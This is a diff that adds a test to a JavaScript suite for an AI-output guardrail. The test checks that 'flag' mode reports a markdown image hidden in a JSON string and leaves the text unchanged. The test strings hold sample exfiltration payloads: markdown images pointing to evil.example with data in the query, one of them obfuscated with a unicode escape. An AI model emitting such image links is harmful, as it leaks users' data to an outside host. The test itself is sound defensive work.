@@ -171,6 +171,26 @@ describe('exfiltration in a JSON channel: each decoded string value is judged', 
     );
   });
 
+  it('flag mode reports a hidden image and leaves the text as it came', () => {
+    const flag = compileGuard({
+      ...STRICT_GUARDRAILS,
+      redaction: { detectors: [], customPatterns: [] },
+      exfiltration: { mode: 'flag', allowedHosts: ALLOWED },
+    });
+    const text =
+      '{"md":"![x](\\u0068ttps:\\/\\/evil.example\\/p.png?d=abc)","c":"a\\r\\nb [x](https://docs.example.com/)"}';
+    const r = flag.scanOutput(text, 'json');
+    assert.equal(r.text, text);
+    assert.deepEqual(
+      r.findings.map((f) => f.detector),
+      ['markdown-image'],
+    );
+    const s = flag.streamOutput('json');
+    let got = '';
+    for (const c of text) got += s.push(c).text;
+    assert.equal(got + s.end().text, text);
+  });
+
   it('text that is not JSON is read as markdown from where it stops being JSON', () => {
     for (const text of [
       'Sure: ![x](https://evil.example/p.png?d=abc) {"a":1}',
